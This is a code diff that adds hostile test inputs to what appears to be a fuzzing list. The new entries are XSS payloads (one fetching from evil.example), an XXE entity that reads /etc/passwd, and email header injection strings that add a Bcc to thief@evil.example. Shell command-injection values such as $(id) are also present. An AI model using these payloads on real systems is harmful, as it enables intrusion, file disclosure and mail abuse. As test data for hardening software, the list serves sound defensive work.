@@ -93,7 +93,23 @@ CELLS = [
     "－1",
     "＠x",
 ]
+MARKUP = [
+    "<script>fetch('//evil.example')</script>",
+    '"><img src=x onerror=alert(1)>',
+    "</text></svg><script>x</script>",
+    "]]><!--",
+    "&lt;b&gt;&#60;",
+    "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>&a;",
+]
+LETTERS = [
+    "x\r\nBcc: thief@evil.example",
+    "x\nContent-Type: text/html\n\n<b>",
+    "x%0d%0aBcc:%20thief@evil.example",
+    "=?utf-8?q?x=0d=0aBcc:_thief@evil.example?=",
+    "a@b.example, thief@evil.example",
+    "..\r\n.\r\nRCPT TO:<thief@evil.example>",
+]
 SHELL = ["`id`", "$(id)", "; id", "| id", "&& id", "> /etc/x", "$IFS"]
 UNICODE = ["\ud800", "\udfff\ud800", "１２３", "١٢٣", "é́́", "👩‍👩‍👧", "ﷺ" * 20, "İ", "ß", "\U0010ffff", ""]
 
-HOSTILE = [*EXPANSIONS, *LINES, *DIAL_STRINGS, *FILES, *QUERIES, *CELLS, *SHELL, *UNICODE]
+HOSTILE = [*EXPANSIONS, *LINES, *DIAL_STRINGS, *FILES, *QUERIES, *CELLS, *MARKUP, *LETTERS, *SHELL, *UNICODE]
